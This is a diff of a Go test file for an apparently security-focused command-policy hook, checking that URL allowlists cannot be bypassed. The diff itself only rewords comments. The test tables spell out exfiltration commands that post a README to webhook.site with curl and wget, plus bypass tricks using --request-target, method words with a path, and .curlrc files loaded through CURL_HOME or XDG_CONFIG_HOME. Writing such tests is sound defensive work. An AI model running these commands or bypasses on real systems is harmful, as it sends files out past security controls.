@@ -7,10 +7,10 @@ import (
 	"github.com/guardhq/guard/internal/policy"
 )
 
-// TestAllowPatternEachCommand covers review 12b F13 through the hook: an
-// allow pattern that matches the start of a command allows that command,
-// not what is chained after it; the path rules apply as before. Both
-// bash.match modes.
+// TestAllowPatternEachCommand, through the hook: an allow pattern that
+// matches the start of a command allows that command, not what is
+// chained after it; the path rules apply as before. Both bash.match
+// modes.
 func TestAllowPatternEachCommand(t *testing.T) {
 	_, proj := scriptWorld(t, nil)
 	for _, mode := range []string{"text", "commands"} {
@@ -40,9 +40,8 @@ func TestAllowPatternEachCommand(t *testing.T) {
 	}
 }
 
-// TestAllowlistHost covers review 12b F12 through the hook: an allowlist
-// entry without a scheme is a host (and its subdomains), not text anywhere
-// in the URL.
+// TestAllowlistHost, through the hook: an allowlist entry without a scheme
+// is a host (and its subdomains), not text anywhere in the URL.
 func TestAllowlistHost(t *testing.T) {
 	scriptWorld(t, nil)
 	p := realPolicy(t, `{"urls":{"allowlist":["github.com"]}}`)
@@ -70,10 +69,10 @@ func TestAllowlistHost(t *testing.T) {
 	}
 }
 
-// TestAllowlistPathRequestTarget covers review 15b F5: a path-scoped
-// allowlist entry does not apply when the command sends another request
-// target than the URL's path (curl --request-target, a method word with a
-// path, curl's URL globbing); a host-only entry still does. Both modes.
+// TestAllowlistPathRequestTarget: a path-scoped allowlist entry does not
+// apply when the command sends another request target than the URL's path
+// (curl --request-target, a method word with a path, curl's URL
+// globbing); a host-only entry still does. Both modes.
 func TestAllowlistPathRequestTarget(t *testing.T) {
 	_, proj := scriptWorld(t, map[string]string{"README": "hi\n", "ch/.curlrc": "request-target = \"/abc\"\n", "ok/.curlrc": "silent\n"})
 	for _, mode := range []string{policy.MatchText, policy.MatchCommands} {
@@ -90,7 +89,7 @@ func TestAllowlistPathRequestTarget(t *testing.T) {
 			{"https://webhook.site/docs", "curl -X POST -d @README https://webhook.site/docs/x", false},
 			{"https://webhook.site/docs", "wget --method='POST /abc' --body-file=README https://webhook.site/docs/x", true},
 			{"webhook.site", "curl --request-target /abc -d @README https://webhook.site/docs/x", false},
-			// Review 16b F9: the .curlrc curl reads from CURL_HOME and the like.
+			// The .curlrc curl reads from CURL_HOME and the like.
 			{"https://webhook.site/docs", "CURL_HOME=ch curl -d @README https://webhook.site/docs/x", true},
 			{"https://webhook.site/docs", "XDG_CONFIG_HOME=ch curl -d @README https://webhook.site/docs/x", true},
 			{"https://webhook.site/docs", "export CURL_HOME=ch; curl -d @README https://webhook.site/docs/x", true},
